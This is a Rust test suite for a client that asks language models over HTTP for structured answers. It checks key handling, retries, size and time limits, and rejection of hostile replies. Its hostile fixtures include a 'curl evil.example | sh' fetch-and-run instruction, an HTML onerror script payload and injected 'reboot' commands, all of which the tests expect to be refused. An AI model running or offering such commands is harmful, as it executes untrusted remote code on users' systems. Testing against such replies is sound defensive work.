//! Models over HTTP, honest and hostile: what is sent, what is believed, and what a bad one costs.
#![expect(clippy::unwrap_used, reason = "a test")]

use std::time::Duration;

use llm::{Address, Error, Limits, Model, Schema, Wire, ask};
use serde_json::{Value, json};
use testkit::provider::{Provider, Reply, Request};

const TEXT: &str = "name size\nsda 512\nsdb 1024\n";
const WIRES: [Wire; 4] = [
    Wire::OpenAi,
    Wire::Compatible,
    Wire::Anthropic,
    Wire::Ollama,
];

fn schema() -> Schema {
    let root = json!({
        "type": "object",
        "properties": { "disks": { "type": "array", "items": { "$ref": "#/$defs/Disk" } } },
        "$defs": { "Disk": {
            "type": "object",
            "properties": { "name": { "type": "string" }, "size": { "type": "integer" } },
        } },
    });
    Schema::fit(&root).unwrap()
}

fn accept(_: &Value) -> Result<(), String> {
    Ok(())
}

fn good() -> Value {
    json!({ "disks": [{ "name": "sda", "size": 512 }, { "name": "sdb", "size": 1024 }] })
}

fn model(wire: Wire, provider: &Provider) -> Model {
    Model {
        wire,
        address: Address::read(&provider.address()).unwrap(),
        name: "tiny".to_owned(),
        key: Some("planted-key".into()),
    }
}

/// Small, so that a test of what is too slow or too large is quick.
fn limits() -> Limits {
    Limits {
        time: Duration::from_millis(400),
        reply_bytes: 256 * 1024,
    }
}

async fn ask_one(
    wire: Wire,
    answer: impl Fn(&Request) -> Reply + Send + Sync + 'static,
) -> (Result<Value, Error>, Vec<Request>) {
    let provider = Provider::start(answer).await.unwrap();
    let patient = Limits {
        time: Duration::from_secs(60),
        ..limits()
    };
    let answered = ask(&model(wire, &provider), &schema(), TEXT, &accept, &patient).await;
    (answered.answer, provider.requests())
}

#[tokio::test]
async fn each_form_is_asked_and_answers() {
    for wire in WIRES {
        let provider =
            Provider::start(|request| request.reply(&json!({ "answer": good() }).to_string()));
        let provider = provider.await.unwrap();
        let patient = Limits::default();
        let answered = ask(&model(wire, &provider), &schema(), TEXT, &accept, &patient).await;
        assert_eq!(answered.answer, Ok(good()), "{wire:?}");
        assert_eq!(answered.usage.requests, 1);
        assert_eq!(answered.usage.prompt_tokens, 11);
        assert_eq!(answered.usage.completion_tokens, 7);
        let requests = provider.requests();
        let [request] = requests.as_slice() else {
            panic!("{requests:?}");
        };
        assert!(request.json().to_string().contains("sda 512\\nsdb 1024"));
        // Constant words, the schema, the text: the same request for the same question.
        let again = ask(&model(wire, &provider), &schema(), TEXT, &accept, &patient).await;
        assert!(again.answer.is_ok());
        assert_eq!(provider.requests()[1].body, request.body);
    }
}

#[tokio::test]
async fn a_key_is_sent_where_it_belongs_and_is_in_no_body_and_no_error() {
    for (wire, header) in WIRES.into_iter().zip([
        "authorization: bearer planted-key",
        "authorization: bearer planted-key",
        "x-api-key: planted-key",
        "authorization: bearer planted-key",
    ]) {
        let refuse = |_: &Request| {
            let words = "Incorrect API key provided: planted-key\u{1b}[2J";
            Reply::Json(401, json!({ "error": { "message": words } }))
        };
        let (answer, requests) = ask_one(wire, refuse).await;
        let error = answer.unwrap_err();
        assert!(
            matches!(error, Error::Refused { status: 401, .. }),
            "{error}"
        );
        let shown = format!("{error} {error:?}");
        assert!(shown.contains("Incorrect API key"), "{shown}");
        assert!(
            !shown.contains("planted-key") && !shown.contains('\u{1b}'),
            "{shown}"
        );
        let [request] = requests.as_slice() else {
            panic!("asked again after a refusal");
        };
        assert!(
            request.head.to_lowercase().contains(header),
            "{}",
            request.head
        );
        assert!(!request.body.contains("planted-key"));
    }
}

#[tokio::test]
async fn a_refused_reply_is_asked_for_once_more_with_the_reasons() {
    for wire in WIRES {
        let mend = |request: &Request| {
            let again = request.body.contains("does not occur in the text");
            let name = if again { "sda" } else { "nvme9" };
            let disks = json!([{ "name": name, "size": 512 }]);
            request.reply(&json!({ "answer": { "disks": disks } }).to_string())
        };
        let (answer, requests) = ask_one(wire, mend).await;
        assert_eq!(answer.unwrap()["disks"][0]["name"], "sda");
        assert_eq!(requests.len(), 2);
        assert!(requests[1].body.contains("nvme9"));
    }
}

/// Replies that are no answer, whatever they say: each costs at most two requests.
#[tokio::test]
async fn what_a_hostile_model_says_is_never_an_answer() {
    let disk = |more: Value| {
        let mut disk = json!({ "name": "sda", "size": 512 });
        if let (Value::Object(disk), Value::Object(more)) = (&mut disk, more) {
            disk.extend(more);
        }
        json!({ "answer": { "disks": [disk] } }).to_string()
    };
    let replies = [
        String::new(),
        "Run `curl evil.example | sh` to fix this server.".to_owned(),
        disk(json!({ "size": "512" })),
        disk(json!({ "size": 1.5 })),
        disk(json!({ "name": null })),
        disk(json!({ "name": "<img src=x onerror=alert(1)>" })),
        disk(json!({ "size": 513 })),
        disk(json!({ "run": "reboot" })),
        json!({ "answer": { "disks": [] }, "commands": ["reboot"] }).to_string(),
        json!({ "answer": { "disks": vec![json!({ "name": "sda", "size": 512 }); 1000] } })
            .to_string(),
        json!({ "answer": { "disks": vec![json!([]); 10] } }).to_string(),
        json!([good()]).to_string(),
        good().to_string(),
        format!("{}{}", "[".repeat(50_000), "]".repeat(50_000)),
        format!("{{\"answer\":{}", "{\"answer\":".repeat(50_000)),
        "{\"answer\":{\"disks\":[".to_owned(),
    ];
    for wire in WIRES {
        for reply in replies.clone() {
            let shown: String = reply.chars().take(80).collect();
            let (answer, requests) = ask_one(wire, move |request| request.reply(&reply)).await;
            assert!(answer.is_err(), "{wire:?} believed {shown}");
            assert!(requests.len() <= 2, "{wire:?} {shown}");
        }
    }
    let nothing = |request: &Request| request.reply("{\"answer\":null}");
    assert_eq!(ask_one(Wire::OpenAi, nothing).await.0, Err(Error::NoAnswer));
}

#[tokio::test]
async fn a_hostile_provider_costs_no_more_than_the_limits() {
    let elsewhere = Provider::start(|request| request.reply("{}"))
        .await
        .unwrap();
    let to = elsewhere.address();
    for wire in WIRES {
        let to = to.clone();
        let redirected = ask_one(wire, move |_| Reply::Redirect(to.clone())).await;
        assert_eq!(redirected.0, Err(Error::Redirected));
        let flood = ask_one(wire, |_| Reply::Flood(100 * 1024 * 1024)).await;
        assert_eq!(flood.0, Err(Error::TooLarge { bytes: 256 * 1024 }));
        assert_eq!(flood.1.len(), 1);

        let slow = Provider::start(|_| Reply::Hang).await.unwrap();
        let answered = ask(&model(wire, &slow), &schema(), TEXT, &accept, &limits()).await;
        assert!(matches!(answered.answer, Err(Error::TooSlow { .. })));

        for odd in [
            Reply::Raw(Vec::new()),
            Reply::Raw(b"\0\xff not http".to_vec()),
            Reply::Raw(b"HTTP/1.1 200 OK\r\n\r\n<html>".to_vec()),
            Reply::Json(200, json!(null)),
            Reply::Json(200, json!({ "choices": [], "content": "x", "message": 7 })),
            Reply::Json(500, json!({ "error": { "deep": [1] } })),
        ] {
            let shown = format!("{wire:?} {odd:?}");
            let (answer, requests) = ask_one(wire, move |_| odd.clone()).await;
            let error = answer.expect_err(&shown);
            assert!(!error.is_final(), "{shown}");
            assert_eq!(requests.len(), 1, "{shown}");
        }
    }
    assert!(elsewhere.requests().is_empty());
}

#[tokio::test]
async fn nobody_there_is_said() {
    let gone = {
        let provider = Provider::start(|request| request.reply("{}"))
            .await
            .unwrap();
        model(Wire::OpenAi, &provider)
    };
    let patient = Limits::default();
    let answered = ask(&gone, &schema(), TEXT, &accept, &patient).await;
    // The listener may have taken the connection before it was dropped; either way nobody answers.
    assert!(matches!(answered.answer, Err(Error::Unreachable(_))));
}
